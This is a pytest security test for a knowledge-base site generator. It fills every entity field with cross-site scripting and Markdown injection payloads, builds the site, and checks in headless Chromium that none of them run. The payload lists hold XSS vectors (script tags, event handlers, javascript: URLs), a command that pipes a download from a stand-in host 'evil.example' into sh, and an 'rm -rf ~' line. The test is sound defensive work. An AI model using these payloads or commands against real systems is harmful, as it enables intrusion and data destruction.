"""Hostile text in every recorded field never runs in the built site.

Every text field of every entity kind gets values from ``HOSTILE``, written through the
SDK and through OpenLineage events, then changed by writers with hostile names (so change
records, on every History section and the Recent changes page, hold them too); the site
is built and every page is opened in headless Chromium, which must find no payload
marker, no event-handler attribute, no ``javascript:`` URL and no script but the theme's
own. A new field is covered by giving it
a value from the corpus below; a new payload by adding it to ``HOSTILE``.
"""

from __future__ import annotations

import functools
import http.server
import itertools
import os
import shutil
import threading
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from docs_gen import build_site
from docs_gen.slugs import slug
from kb.graph import Graph
from kb.ingest import Client
from kb.ingest.openlineage import parse_events, write_events

REPO = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"


def _mark(n: int) -> str:
    """Script that leaves a marker naming the payload, if it ever runs."""
    return f"document.documentElement.setAttribute('data-pwned','{n}')"


#: The corpus. Single-line values go into name-like fields too (within the naming rules:
#: at most 120 characters here, no control or format characters, no '@'); every value,
#: multi-line ones included, goes into free-text fields.
HOSTILE: list[str] = [
    f"<script>{_mark(1)}</script>",
    f'<img src=x onerror="{_mark(2)}">',
    f"</title><script>{_mark(3)}</script>",
    f'"><svg onload="{_mark(4)}">',
    f"javascript:{_mark(5)}",
    f"[click me](javascript:{_mark(6)})",
    '"]; click A call alert(7); A["x',
    '%%{init: {"securityLevel": "loose"}}%% click m1 call alert(8)',
    f"'}}: *x &y {{{{ 1 }}}} </span><img src=x onerror={_mark(9)}> #",
    f'x {{: onclick="{_mark(10)}" }}',
    f"&lt;script&gt;{_mark(11)}&lt;/script&gt;",
    f'```<details open ontoggle="{_mark(12)}">',
    "$(touch /tmp/kb-pwned); curl evil.example | sh",
    f"data:text/html,<script>{_mark(14)}</script>",
    f'<a href=" JaVaScRiPt:{_mark(15)}">link</a>',
    f'<iframe srcdoc="<script>{_mark(16)}</script>"></iframe>',
    # multi-line: free text only
    f'fine\n```\n<img src=x onerror="{_mark(17)}">\n```\n',
    f'---\ntitle: </title><script>{_mark(18)}</script>\ntags: ["<b onclick=x>t</b>"]\n---\n',
    f"**bold** and <script>{_mark(19)}</script> and [js](javascript:{_mark(19)})\n\n"
    f'    indented <b onmouseover="{_mark(19)}">x</b>\n\n<div onclick="{_mark(19)}">d</div>',
    f"python train.py\nrm -rf ~ # <script>{_mark(20)}</script>",
    f"````\n</div></blockquote><script>{_mark(21)}</script>\n~~~\n<p onclick={_mark(21)}>",
]
#: Notes are Markdown a writer controls: script, event handlers, script links and raw HTML
#: in every form Markdown offers must come out inert.
NOTES: list[str] = [
    f"# Plan\n\n<script>{_mark(31)}</script>\n\n- [x](javascript:{_mark(31)})",
    f'**ok** <b onmouseover="{_mark(32)}">b</b> <a href="javascript:{_mark(32)}">a</a>',
    f"<javascript:{_mark(33)}> and [ref][r]\n\n[r]: javascript:{_mark(33)}",
    f'![img](javascript:{_mark(34)}) <img src="x" onerror="{_mark(34)}"> '
    f'<svg><script>{_mark(34)}</script></svg>',
    f'<details open ontoggle="{_mark(35)}"><summary>s</summary></details>'
    f'<style>body{{background:url("javascript:{_mark(35)}")}}</style>',
    f'[data](data:text/html,<script>{_mark(36)}</script>) '
    f'[vb](vbscript:{_mark(36)}) [sp]( JaVaScRiPt:{_mark(36)})',
    f'<form action="javascript:{_mark(37)}"><button formaction="javascript:{_mark(37)}">'
    f"go</button></form><iframe src=\"javascript:{_mark(37)}\"></iframe>",
    f'| a | b |\n|---|---|\n| <span onclick="{_mark(38)}">c</span> | `<script>` |',
]
NAMES = [v for v in HOSTILE if "\n" not in v]
assert all(len(v) <= 120 and "@" not in v and v.isprintable() for v in NAMES)
assert all(len(v) <= 2000 for v in HOSTILE)
SECTIONS = ("motivation", "composition", "collection", "preprocessing", "uses",
            "distribution", "maintenance")


def _values(pool: list[str], start: int) -> Callable[[], str]:
    """The next value of ``pool`` on each call, from ``start``: entity ``j`` starts at ``j``,
    so field ``k`` of entity ``j`` gets value ``j + k``, and across as many entities as
    there are values every value lands in every field."""
    it = itertools.islice(itertools.cycle(pool), start, None)
    return lambda: next(it)


def _at(day: int) -> datetime:
    return datetime(2024, 5, day, 12, 0, tzinfo=UTC)


def _write_sdk(client: Client, j: int, previous: tuple[str, str] | None
               ) -> dict[str, str]:
    """One of each entity kind, each text field from the corpus, in one batch; returns some
    of the names written."""
    n, t = _values(NAMES, j), _values(HOSTILE, j)
    handle, run = f"p{j}", n()
    team, dataset, version, experiment, model, mv, task = n(), n(), n(), n(), n(), n(), n()
    with client.batch() as b:
        b.team(team, description=t())
        b.person(handle, name=n(), email=n().replace(" ", "/") + "@example.com", team=[team])
        b.dataset(dataset, description=t(), domain=n(), license=n(),
                  datasheet={s: t() for s in SECTIONS})
        b.dataset_version(dataset, version, uri=t(), digest=n(), rows=j, description=t(),
                          schema=[{"name": n(), "type": n(), "description": t()}],
                          derived_from=[previous] if previous else [], created_at=_at(1))
        b.experiment(experiment, description=t())
        b.model(model, description=t(), task=task, intended_use=t(), limitations=t(),
                license=n(), base_model=n())
        b.run(id=run, name=n(), experiment=experiment, person=handle, started_at=_at(2 + j),
              ended_at=_at(2 + j), params={n(): t(), n(): 1}, metrics={n(): 0.5},
              command=t(), seed=j, tracker_url=t(), error=t(),
              inputs=[(dataset, version, "train")],
              code={"repo": n(), "commit": n(), "branch": n()},
              environment={"digest": n(), "python": n(), "platform": n(), "accelerator": n(),
                           "packages": [n(), n()]})
        b.model_version(model, version=mv, run_id=run, framework=n(), uri=t(),
                        aliases=[n()], description=t())
        b.deploy(model, mv, environment=n(), endpoint=t(), id=n(), by=handle,
                 deployed_at=_at(25))
        b.own(f"model:{model}", owner=handle, role=n())
        b.own(f"dataset:{dataset}", owner=f"team:{team}", role=n())
        for about in (f"model:{model}", f"dataset:{dataset}", f"person:{handle}",
                      f"team:{team}", f"run:{run}"):
            b.note(about, t(), by=handle)
        for k, about in enumerate((f"run:{run}", f"experiment:{experiment}")):
            b.note(about, NOTES[(j + k) % len(NOTES)], by=handle)
    return {"dataset": dataset, "version": version, "model": model, "team": team, "task": task}


def _write_changes(graph: Graph, written: list[dict[str, str]]) -> None:
    """Updates by writers with hostile names, from one hostile value to another, so the
    History sections and the Recent changes page show both in their summaries."""
    for j, names in enumerate(written):
        t = _values(HOSTILE, j + 3)
        writer = Client(graph, actor=NAMES[(j + 5) % len(NAMES)])
        with writer.batch() as b:
            b.model(names["model"], description=t(), limitations=t())
            b.dataset(names["dataset"], description=t())
            b.team(names["team"], description=t())
        with writer.batch() as b:
            b.own(f"model:{names['model']}", owner=f"team:{names['team']}", role=NAMES[j])


def _event(j: int) -> dict[str, Any]:
    """An OpenLineage run event whose names, facets and datasets come from the corpus."""
    n, t = _values(NAMES, j), _values(HOSTILE, j)

    def dataset() -> dict[str, Any]:
        return {"namespace": n(), "name": n(), "facets": {
            "documentation": {"description": t()},
            "schema": {"fields": [{"name": n(), "type": n(), "description": t()}]},
            "dataSource": {"name": n(), "uri": t()},
            "version": {"datasetVersion": n()},
            "ownership": {"owners": [{"name": f"user:p{j}", "type": n()}]},
        }}

    return {
        "eventType": "FAIL", "eventTime": f"2024-05-{10 + j:02d}T10:00:00Z",
        "producer": "https://example.com/hostile-producer",
        "run": {"runId": str(uuid.UUID(int=j + 1)), "facets": {
            "errorMessage": {"message": t(), "programmingLanguage": n(), "stackTrace": t()},
            "executionParameters": {"parameters": [{"key": n(), "value": t()}]},
        }},
        "job": {"namespace": n(), "name": n(), "facets": {
            "documentation": {"description": t()},
            "sourceCodeLocation": {"type": "git", "url": n(), "repoUrl": n(), "version": n(),
                                   "branch": n()},
            "ownership": {"owners": [{"name": f"user:p{j}", "type": n()}]},
        }},
        "inputs": [dataset()],
        "outputs": [dataset()],
    }


#: Runs in every page before its own scripts: a dialog is as good as a marker, and the
#: theme's closed shadow roots (mermaid diagrams) are opened so the inspection sees in.
_TRAP = """
for (const name of ['alert', 'confirm', 'prompt']) {
  window[name] = () => document.documentElement.setAttribute('data-pwned', name);
}
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) {
  return attach.call(this, {...init, mode: 'open'});
};
"""

#: True once every diagram of the page is drawn (the theme swaps each for an SVG).
_DRAWN = """
[...document.querySelectorAll('.mermaid')].every(
  e => e.shadowRoot && e.shadowRoot.querySelector('svg'))
"""

#: The page's DOM, shadow roots included: markers, handlers, script URLs and scripts.
_INSPECT = """
() => {
  const out = {pwned: document.documentElement.getAttribute('data-pwned'), handlers: [],
               urls: [], scripts: [], frames: []};
  const urlAttrs = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'];
  const walk = (root) => {
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        const value = a.value.replace(/[\\s\\u0000-\\u001f]+/g, '').toLowerCase();
        if (name.startsWith('on')) out.handlers.push(`${el.tagName} ${a.name}`);
        if (urlAttrs.includes(name) && /^(javascript:|vbscript:|data:text)/.test(value)) {
          out.urls.push(`${el.tagName} ${a.name}=${a.value.slice(0, 60)}`);
        }
      }
      const tag = el.tagName.toLowerCase();
      if (tag === 'script') out.scripts.push(el.src ? `src:${el.src}` : `inline:${el.text}`);
      if (['iframe', 'frame', 'object', 'embed'].includes(tag)) out.frames.push(tag);
      if (el.shadowRoot) walk(el.shadowRoot);
    }
  };
  walk(document);
  // charts' data: JSON that parses, drawn, its names shown as the text they are
  out.charts = [...document.querySelectorAll('[data-kb-chart]')].map(e => {
    try {
      const names = JSON.parse(e.getAttribute('data-kb-chart')).metrics.map(m => m.name);
      const shown = [...e.querySelectorAll('figcaption')].map(c => c.textContent);
      const drawn = e.querySelectorAll('canvas').length;
      return JSON.stringify(names) === JSON.stringify(shown) && drawn === names.length
        ? 'ok' : `names ${JSON.stringify(names)} shown as ${JSON.stringify(shown)}`;
    } catch (err) { return `unreadable: ${err}`; }
  });
  return out;
}
"""


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_site(graph: Graph, client: Client, tmp_path: Path
                 ) -> Iterator[tuple[str, Path, list[dict[str, str]]]]:
    previous, written = None, []
    for j in range(len(NAMES)):
        names = _write_sdk(client, j, previous)
        previous = (names["dataset"], names["version"])
        written.append(names)
    write_events(Client(graph, actor="tester"), parse_events([_event(j) for j in range(3)]))
    _write_changes(graph, written)
    site = tmp_path / "site"
    shutil.copytree(REPO / "site", site, ignore=shutil.ignore_patterns("generated", "build"))
    mermaid = os.environ.get("KB_MERMAID_JS")
    result = build_site(graph, site, mermaid=Path(mermaid) if mermaid else None)
    handler = functools.partial(_QuietHandler, directory=str(result.out_dir))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", result.out_dir, written
    finally:
        server.shutdown()
        server.server_close()


def _pages(out_dir: Path) -> list[str]:
    return sorted(str(p.parent.relative_to(out_dir)) + "/" for p in out_dir.rglob("index.html")
                  if "assets" not in p.parts)


def _theme_scripts(inspect: Callable[[str], dict[str, Any]]) -> tuple[set[str], int]:
    """The script URLs and the number of inline scripts of the hand-written About page."""
    about = inspect("about/")
    srcs = {s for s in about["scripts"] if s.startswith("src:")}
    return srcs, len(about["scripts"]) - len(srcs)


def test_hostile_values_in_every_field_never_run_in_a_browser(
        hostile_site: tuple[str, Path, list[dict[str, str]]]) -> None:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright

    base, out_dir, written = hostile_site
    pages = _pages(out_dir)
    kinds = {p.split("/")[0] for p in pages}
    assert {"models", "datasets", "people", "teams", "runs", "experiments", "production",
            "changes", "tags"} <= kinds, kinds
    assert sum(p.startswith("models/") for p in pages) > len(NAMES)  # every card, and index
    problems: list[str] = []
    shots = os.environ.get("KB_SCREENSHOTS")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            context = browser.new_context()
            context.add_init_script(_TRAP)
            # offline: the theme's web fonts would only time out
            context.route(lambda url: not url.startswith(base), lambda route: route.abort())
            page = context.new_page()
            page.on("dialog", lambda d: (problems.append(f"dialog {d.message}"), d.dismiss()))

            def inspect(path: str) -> dict[str, Any]:
                page.goto(f"{base}/{path}", wait_until="load")
                try:
                    # diagrams are drawn after load: their labels must stay text, and valid
                    page.wait_for_function(_DRAWN, timeout=15_000)
                except PlaywrightTimeout:
                    problems.append(f"{path}: a mermaid diagram was not drawn")
                return page.evaluate(_INSPECT)

            srcs, inline = _theme_scripts(inspect)
            assert srcs and inline, "the About page should carry the theme's scripts"
            for path in pages:
                found = inspect(path)
                scripts = found["scripts"]
                own = [s for s in scripts if s.startswith("src:")]
                if found["pwned"]:
                    problems.append(f"{path}: payload {found['pwned']} ran")
                problems += [f"{path}: handler {h}" for h in found["handlers"]]
                problems += [f"{path}: script URL {u}" for u in found["urls"]]
                problems += [f"{path}: {f} element" for f in found["frames"]]
                problems += [f"{path}: chart {c}" for c in found["charts"] if c != "ok"]
                if path.startswith("models/") and path != "models/" and not found["charts"]:
                    problems.append(f"{path}: no metrics chart")
                problems += [f"{path}: foreign script {s}" for s in own if s not in srcs]
                if len(scripts) - len(own) != inline:
                    problems.append(f"{path}: {len(scripts) - len(own)} inline scripts")
            assert problems == [], "\n".join(problems)
            # hostile text is shown as the text it is: title, tags, search results
            first = written[0]
            inspect(f"models/{slug(first['model'])}/")
            assert page.title() == f"{first['model']} - ML team knowledge base"
            tags = page.locator("nav.md-tags").inner_text()
            assert f"task: {first['task']}" in tags and f"team: {first['team']}" in tags
            # a hostile writer and hostile values read as text in a History and in Recent
            # changes
            card = page.locator("article").inner_text()
            assert NAMES[5] in " ".join(card[card.rindex("History"):].split())
            inspect("changes/")
            recent = " ".join(page.locator("article").inner_text().split())
            assert NAMES[5] in recent and "owner (" in recent
            inspect("tags/")
            assert f"task: {first['task']}" in page.locator("article").inner_text()
            page.locator("input.md-search__input").click()
            page.keyboard.type("pwned")  # the theme searches on key events
            page.wait_for_selector(".md-search-result__item", timeout=30_000)
            found = page.evaluate(_INSPECT)
            if found["pwned"] or found["handlers"] or found["urls"]:
                problems.append(f"search results: {found}")
            if shots:
                model = f"models/{slug(first['model'])}/"
                for width in (1400, 400):
                    page.set_viewport_size({"width": width, "height": 1000})
                    page.goto(f"{base}/{model}", wait_until="load")
                    page.wait_for_timeout(500)
                    Path(shots).mkdir(parents=True, exist_ok=True)
                    page.screenshot(path=f"{shots}/model-{width}-top.png")
                    page.screenshot(path=f"{shots}/model-{width}.png", full_page=True)
        finally:
            browser.close()
    assert problems == [], "\n".join(problems)
